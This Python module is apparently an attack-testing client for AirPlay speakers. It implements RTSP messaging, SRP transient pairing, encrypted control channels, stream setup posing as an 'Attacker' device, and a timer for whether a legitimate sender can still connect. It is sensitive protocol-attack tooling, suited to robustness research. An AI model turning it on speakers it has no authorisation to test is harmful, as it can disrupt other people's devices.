"""A sender for attacks: requests, transient pairing and encryption, with a way to break each step."""

import os
import plistlib
import socket
import struct
import time
import uuid

import crypto

TYPE_PLIST = "application/x-apple-binary-plist"
TYPE_TLV = "application/octet-stream"


class Refused(Exception):
    """The speaker refused this sender, and how."""


def tlv(*items):
    out = b""
    for kind, value in items:
        pieces = [value[at : at + 255] for at in range(0, len(value), 255)] or [b""]
        out += b"".join(bytes([kind, len(piece)]) + piece for piece in pieces)
    return out


def read_tlv(data):
    items, at, last = {}, 0, None
    while at + 2 <= len(data):
        kind, length = data[at], data[at + 1]
        items[kind] = (items[kind] if kind == last else b"") + data[at + 2 : at + 2 + length]
        at, last = at + 2 + length, kind
    return items


STATE, METHOD, SALT, PUBLIC_KEY, PROOF, ERROR, FLAGS = 6, 0, 2, 3, 4, 7, 19
M1 = tlv((STATE, b"\1"), (METHOD, b"\0"), (FLAGS, b"\x10"))


class Answer:
    def __init__(self, status, headers, body):
        self.status, self.headers, self.body = status, headers, body

    def plist(self):
        return plistlib.loads(self.body) if self.body else {}


class Sender:
    """One control connection."""

    def __init__(self, network, address, port=7000, source=None, timeout=5.0, receive_buffer=None):
        self.network, self.address, self.source, self.timeout = network, address, source, timeout
        self.socket = network.connect(address, port, source, timeout, receive_buffer)
        self.local = self.socket.getsockname()[0]
        self.channel, self.secret, self.buffer, self.count = None, None, b"", 0
        self.session = uuid.uuid4().int & 0xFFFFFFFF
        self.uri = f"rtsp://{self.local}/{self.session}"
        self.client = f"{uuid.uuid4().int & (1 << 64) - 1:016X}"

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    # Messages

    def encoded(self, method, path, body=b"", kind=None, headers=(), version="RTSP/1.0"):
        self.count += 1
        lines = [f"{method} {path} {version}", f"CSeq: {self.count}", "User-Agent: AirPlay/665.13.1"]
        lines += [f"DACP-ID: {self.client}", f"Active-Remote: {self.session}", f"Client-Instance: {self.client}"]
        if kind:
            lines.append(f"Content-Type: {kind}")
        if body:
            lines.append(f"Content-Length: {len(body)}")
        lines += [f"{name}: {value}" for name, value in headers]
        return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body

    def send(self, data):
        self.socket.sendall(self.channel.seal(data) if self.channel else data)

    def receive(self):
        """One answer."""
        while (end := self.buffer.find(b"\r\n\r\n")) < 0:
            self._more()
        head = self.buffer[:end].decode("latin-1").split("\r\n")
        headers = {name.strip().lower(): value.strip() for name, _, value in (line.partition(":") for line in head[1:])}
        length = int(headers.get("content-length", 0))
        while len(self.buffer) < end + 4 + length:
            self._more()
        body, self.buffer = self.buffer[end + 4 : end + 4 + length], self.buffer[end + 4 + length :]
        return Answer(int(head[0].split()[1]), headers, body)

    def _more(self):
        data = self.socket.recv(1 << 16)
        if not data:
            raise ConnectionError("the speaker closed the connection")
        self.buffer += self.channel.open(data) if self.channel else data

    def request(self, method, path, body=b"", kind=None, headers=()):
        self.send(self.encoded(method, path, body, kind, headers))
        return self.receive()

    def plist(self, method, path, value, headers=()):
        body = plistlib.dumps(value, fmt=plistlib.FMT_BINARY)
        return self.request(method, path, body, TYPE_PLIST, headers)

    # Steps of a session

    def pair_setup(self, body):
        return self.request("POST", "/pair-setup", body, TYPE_TLV, [("X-Apple-HKP", "4")])

    def pair(self, password=crypto.PASSWORD):
        answer = self.pair_setup(M1)
        challenge = read_tlv(answer.body)
        if answer.status != 200 or SALT not in challenge:
            raise Refused(f"M2: status {answer.status}, error {challenge.get(ERROR, b'').hex() or 'none'}")
        public, proof, self.secret = crypto.srp_client(challenge[SALT], challenge[PUBLIC_KEY], password)
        answer = self.pair_setup(tlv((STATE, b"\3"), (PUBLIC_KEY, public), (PROOF, proof)))
        if answer.status != 200 or PROOF not in read_tlv(answer.body):
            raise Refused(f"M4: status {answer.status}, error {read_tlv(answer.body).get(ERROR, b'').hex() or 'none'}")
        self.channel = crypto.Channel.control(self.secret, is_sender=True)
        return self

    def setup(self, name="Attacker", timing="PTP", **more):
        """Opens a session; returns the answer's fields."""
        message = {
            "deviceID": "02:00:00:AA:00:FE", "macAddress": "02:00:00:AA:00:FE", "sessionUUID": str(uuid.uuid4()).upper(),
            "timingProtocol": timing, "name": name, "model": "Attack1,1", "osName": "Linux", "osVersion": "1.0",
            "sourceVersion": "665.13.1", "isMultiSelectAirPlay": True, "groupContainsGroupLeader": False,
            "groupUUID": str(uuid.uuid4()).upper(),
            "timingPeerInfo": {"ID": str(uuid.uuid4()), "DeviceType": 0, "ClockID": 0x0102030405060708, "Addresses": [self.local]},
        }  # fmt: skip
        message.update(more)
        answer = self.plist("SETUP", self.uri, message)
        if answer.status != 200:
            raise Refused(f"SETUP: status {answer.status}")
        return answer.plist()

    def stream(self, **more):
        """Opens a buffered stream; returns any answer."""
        fields = {
            "type": 103, "audioFormat": 0x40000, "ct": 2, "spf": 352, "sr": 44100, "shk": os.urandom(32),
            "isMedia": True, "audioMode": "default", "streamConnectionID": self.session, "clientID": "attacker",
        }  # fmt: skip
        fields.update(more)
        fields = {name: value for name, value in fields.items() if value is not None}
        self.key = fields.get("shk")
        return self.plist("SETUP", self.uri, {"streams": [fields]})

    def is_closed(self, within):
        """Whether the speaker closes the connection in this time; its answers are ignored."""
        end = time.monotonic() + within
        while (left := end - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                if not self.socket.recv(1 << 16):
                    return True
            except (TimeoutError, socket.timeout):
                return False
            except OSError:
                return True
        return False


def gets_in(network, address, within=10.0, port=7000, source=None):
    """Seconds until a legitimate sender has paired and opened a session that leaves the music alone; None on failure."""
    start, last = time.monotonic(), "nothing"
    while (left := start + within - time.monotonic()) > 0:
        try:
            with Sender(network, address, port, source, timeout=min(left, 5.0)) as sender:
                if sender.request("GET", "/info").status != 200:
                    raise Refused("/info")
                sender.pair()
                sender.setup("Legitimate", "None", isRemoteControlOnly=True)
                return time.monotonic() - start, ""
        except (OSError, ValueError, Refused) as error:
            last = str(error) or type(error).__name__
            time.sleep(0.2)
    return None, last


def sealed_packets(key, packets, ssrc=0xFACE):
    """Packets of (number, time, payload), sealed together for speed; each framed."""
    heads = [struct.pack("!BBHII", 0x80, number >> 16 & 0x7F, number & 0xFFFF, time_ & 0xFFFFFFFF, ssrc) for number, time_, _ in packets]
    tails = [struct.pack("<Q", nonce) for nonce in range(len(packets))]
    for at in range(0, len(packets), 1000):
        several = list(zip(heads, tails, packets))[at : at + 1000]
        sealed = crypto.seal_all(key, [(tail, head[4:12], packet[2]) for head, tail, packet in several])
        for (head, tail, _), body in zip(several, sealed):
            yield struct.pack("!H", len(head) + len(body) + len(tail) + 2) + head + body + tail


def sealed_packet(key, number, time_, payload, ssrc=0xFACE, nonce=0):
    """One packet of a buffered stream, framed."""
    head = struct.pack("!BBHII", 0x80, number >> 16 & 0x7F, number & 0xFFFF, time_ & 0xFFFFFFFF, ssrc)
    tail = struct.pack("<Q", nonce)
    body = head + crypto.seal_all(key, [(tail, head[4:12], payload)])[0] + tail
    return struct.pack("!H", len(body) + 2) + body
